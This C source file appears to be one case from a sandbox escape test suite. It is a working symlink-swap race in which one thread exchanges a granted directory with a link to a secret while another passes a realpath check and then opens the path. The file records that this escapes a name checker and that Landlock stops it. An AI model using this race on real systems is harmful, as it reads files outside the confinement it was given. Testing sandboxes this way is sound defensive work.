// id: K01
// title: a directory is exchanged for a link between a check and the opening
// label: by design: Landlock decides at the opening, by what was walked; a checker of names loses this race
// reference: https://docs.kernel.org/userspace-api/landlock.html
// versions: none
// measured: plain escaped on Linux 6.18.44
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
// setup: file {grant}/flip/secret.txt decoy
// setup: symlink {grant}/flop {secret}
#include "attack.h"

#include <pthread.h>
#include <sys/syscall.h>
#include <time.h>

static void* flip(void* unused) {
    char flip[4096], flop[4096];
    snprintf(flip, sizeof flip, "%s", grant_path("flip"));
    snprintf(flop, sizeof flop, "%s", grant_path("flop"));
    for (;;) syscall(SYS_renameat2, AT_FDCWD, flip, AT_FDCWD, flop, RENAME_EXCHANGE);
    return unused;
}

static void attack(void) {
    pthread_t thread;
    char path[4096], real[4096], text[256];
    snprintf(path, sizeof path, "%s/flip/secret.txt", attack_arguments[1]);
    if (pthread_create(&thread, NULL, flip, NULL)) failed("pthread_create");
    long lost = 0, denied = 0;
    for (time_t end = time(NULL) + 3; time(NULL) < end;) {
        /* What a launcher in user space would do: look where the name leads, and open it only when that is inside. */
        if (!realpath(path, real) || strncmp(real, attack_arguments[1], strlen(attack_arguments[1]))) continue;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            denied += errno == EACCES;
            continue;
        }
        ssize_t got = read(fd, text, sizeof text - 1);
        close(fd);
        text[got > 0 ? got : 0] = 0;
        if (strncmp(text, "decoy", 5)) escaped("%s", text);
        ++lost;
    }
    if (!denied) errno = EAGAIN;
    else errno = EACCES;
    failed(lost ? "the race was never won" : "nothing was opened");
}
